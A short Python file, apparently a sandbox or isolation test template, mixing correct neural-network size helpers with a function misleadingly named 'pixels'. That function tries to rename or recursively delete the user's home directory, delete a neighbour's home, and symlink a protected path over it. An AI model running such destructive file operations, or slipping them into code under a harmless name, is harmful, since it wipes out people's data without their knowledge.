# tries: move or remove the directory that it was given
# must: leave nothing behind
import os
import shutil


def pixels(height, width):
    home = os.environ["HOME"]
    for attempt in (
        lambda: os.rename(home, os.path.join(os.path.dirname(home), "@MARK@")),
        lambda: os.rename(home, "/tmp/@MARK@"),
        lambda: os.rename("@NEIGHBOUR_HOME@", "mine"),
        lambda: shutil.rmtree("@NEIGHBOUR_HOME@"),
        lambda: shutil.rmtree(home),
        lambda: os.symlink("@PRECIOUS@", home),
    ):
        try:
            attempt()
        except OSError as error:
            print(error)
    return 0


# honest
def conv_output_size(size, kernel_size, stride=1, padding=0):
    return (size + 2 * padding - kernel_size) // stride + 1


def classifier_params(features, classes, bias=True):
    return (features + bool(bias)) * classes


def fc_layer_params(sizes):
    return [(a + 1) * b for a, b in zip(sizes, sizes[1:])]
